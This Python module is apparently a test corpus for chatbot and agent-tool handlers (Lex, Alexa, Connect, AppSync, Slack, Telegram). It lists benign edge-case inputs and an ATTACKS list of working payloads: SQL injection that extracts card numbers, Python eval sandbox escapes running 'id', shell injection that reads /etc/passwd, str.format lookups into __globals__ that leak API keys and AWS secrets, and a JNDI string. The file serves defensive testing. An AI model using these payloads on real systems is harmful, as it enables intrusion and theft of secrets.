"""Bots, skills, contact flows, resolvers and an agent's tools."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.sixth import (
    ARABIC,
    EMOJI,
    ESSAY,
    FORMULA,
    HTMLISH,
    IRISH,
    MARKDOWN,
    PYTHONISH,
    REVIEW,
    SHELLISH,
    SQL_NOTE,
    TEMPLATISH,
    agent,
    alexa,
    appsync,
    connect,
    form,
    http,
    lex,
)

ID = "uid="
CARD = "card-4929"
KEY = "voice-key-6116"


def _order(number: str | None) -> dict[str, object]:
    return lex("OrderStatus", {"OrderNumber": number})


def _slack(text: str) -> dict[str, object]:
    return form("/slack", {"command": "/helper", "text": text, "user_name": "o'brien"})


def _reply(text: str, sender: str = "Ann") -> dict[str, object]:
    return http("POST", "/telegram", {"from": sender, "reply": text})


def _echo(text: str, sender: str = IRISH) -> dict[str, object]:
    return http("POST", "/telegram", {"from": sender, "text": text})


def _operator(a: str, name: str, b: str) -> dict[str, object]:
    return alexa("Count", a=a, op=name, b=b)


REQUESTS = {
    "lex_order_status": [
        _order("A-1"),
        _order(None),
        _order("the one of O'Brien -- or is it Ann's?"),
        _order("select all; drop it"),
    ],
    "lex_faq": [
        lex("Faq", {}, "Where's my order? I can't select it from the list; -- it's null"),
        lex("Faq", {}, SQL_NOTE),
        lex("Faq", {}, ARABIC + TEMPLATISH),
    ],
    "lex_book": [
        lex("Book", {"Name": IRISH, "Day": "2024-02-29"}),
        lex("Book", {"Name": "{name.__class__} Miller", "Day": None}),
        lex("Book", {"Name": "x", "Day": "'; --"}),
    ],
    "alexa_skill": [
        alexa("RecipeIntent", dish="mac 'n' cheese & <b>chips</b>"),
        alexa("ListIntent", item="rm -rf, eggs; sugar | flour"),
        alexa("__class__"),
        alexa("AMAZON.HelpIntent"),
    ],
    # Honest by design though it runs code of the event.
    "alexa_math": [alexa("Math", sum="3 plus 4 times 2"), alexa("Math", sum="(7 - 2) / 2.5")],
    "alexa_operator": [
        _operator("3", "plus", "4"),
        _operator("7", "mod", "-2"),
        _operator("1", "; import os", "2"),
    ],
    "connect_greeting": [connect(name=IRISH), connect(name="<speak>Bob</speak> & co"), connect(name=EMOJI)],
    "connect_find": [connect(digits="123"), connect(digits="99"), connect(digits="12# *3")],
    "appsync": [
        appsync(
            "Query", "posts", filter={"title": {"contains": "-- or"}, "likes": {"gt": 3}}, sortBy="likes"
        ),
        appsync("Query", "posts", filter={"title": {"eq": "' OR '1'='1"}}, limit=3, sortBy="id"),
        appsync("Query", "posts", sortBy="likes DESC", filter={"draft": {"eq": 1}}),
        appsync("Query", "post", id="1 OR 1=1"),
        appsync("Mutation", "comment", post="1", text=MARKDOWN + HTMLISH),
        appsync("Mutation", "comment", post="2", text=ESSAY),
    ],
    "agent_tools": [
        agent("count_orders", status="open' OR 'a'='a"),
        agent("remember", text=SHELLISH + SQL_NOTE),
        agent("list_files", folder="/etc/hostname"),
        agent("delete; all", x="1"),
    ],
    "agent_weather": [
        agent("weather", city="L'Aquila; (AQ)", units="F"),
        agent("weather", city="../../internal?x=1#y"),
        agent("weather", city="http://127.0.0.1/"),
    ],
    "slack_command": [
        _slack("say it's 5 o'clock; $(date) `id` && ls | wc"),
        _slack('say "hello  world" \\n <@U123|ann> <https://example.org/?a=1&b=2|x>'),
        _slack("count one two three"),
        _slack("exec rm"),
    ],
    "chat_reply": [
        _reply("You have {member.points} points, it's 100% true"),
        _reply("use ${x} & <b>%s</b>".replace("{x}", "x"), "{member.__class__}"),
        _reply("Deal: {member.points:>5}! {{literally}}"),
    ],
    "chat_echo": [
        _echo(PYTHONISH),
        _echo(FORMULA, EMOJI),
        _echo(REVIEW),
        _echo("${jndi:ldap://x/a} \r\n{{7*7}}"),
    ],
}
ATTACKS = [
    Attack("SQL", "lex_order_status", _order('x" UNION SELECT card, phone FROM orders --'), CARD),
    Attack("SQL", "lex_order_status", _order('" OR 1 -- '), "B-2"),
    Attack(
        "SQL", "lex_order_status", _order('x"UNION VALUES((SELECT group_concat(card)FROM orders),0)--'), CARD
    ),
    Attack(
        "SQL",
        "connect_find",
        connect(digits="' UNION SELECT card, 1 FROM orders ORDER BY 1 DESC --"),
        "card-",
    ),
    Attack("SQL", "connect_find", connect(digits="' AND status = 'open"), "B-2"),
    Attack("eval", "alexa_math", alexa("Math", sum="__import__('os').popen('id').read()"), ID),
    Attack("eval", "alexa_math", alexa("Math", sum="open('/etc/passwd').read()"), "root:x:0"),
    Attack("eval", "alexa_math", alexa("Math", sum="API_KEY"), KEY),
    Attack(
        "eval",
        "alexa_math",
        alexa(
            "Math",
            sum="[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['popen']('id').read()",
        ),
        ID,
    ),
    Attack(
        "eval",
        "alexa_math",
        alexa("Math", sum="list(db.execute('SELECT card FROM orders').fetchone())"),
        CARD,
    ),
    Attack(
        "SQL",
        "appsync",
        appsync(
            "Query",
            "posts",
            sortBy="likes DESC LIMIT (SELECT instr(title, 'S') FROM posts WHERE draft = 1) --",
        ),
        '[{"id": 2, "title": "Mugs -- or cups?"}]',
    ),
    Attack(
        "SQL, blind",
        "appsync",
        appsync(
            "Query",
            "posts",
            sortBy="(CASE WHEN (SELECT title FROM posts WHERE draft = 1) LIKE 'S%' THEN -id ELSE id END)",
        ),
        '[{"id": 2',
    ),
    Attack("command", "agent_tools", agent("list_files", folder="/etc/hostname; id"), ID),
    Attack("command", "agent_tools", agent("list_files", folder="$(cat${IFS}/etc/passwd)"), "root:x:0"),
    Attack(
        "command", "agent_tools", agent("list_files", folder="/x 2>&1 || base64 -w0 /etc/passwd"), "cm9vd"
    ),
    Attack("command", "slack_command", _slack("count x; id #"), ID),
    Attack("command", "slack_command", _slack("count >/dev/null; cat /etc/passwd; echo"), "root:x:0"),
    Attack("command", "slack_command", _slack("count x\ncat /etc/passwd #"), "root:x:0"),
    Attack("str.format", "chat_reply", _reply("{member.__init__.__globals__[API_KEY]}"), KEY),
    Attack(
        "str.format",
        "chat_reply",
        _reply("{member.__class__.__init__.__globals__[os].environ}!"),
        "AWS_SECRET_ACCESS_KEY",
    ),
    Attack("str.format", "chat_reply", _reply("{member.__init__.__func__.__globals__[API_KEY]:>40}"), KEY),
]
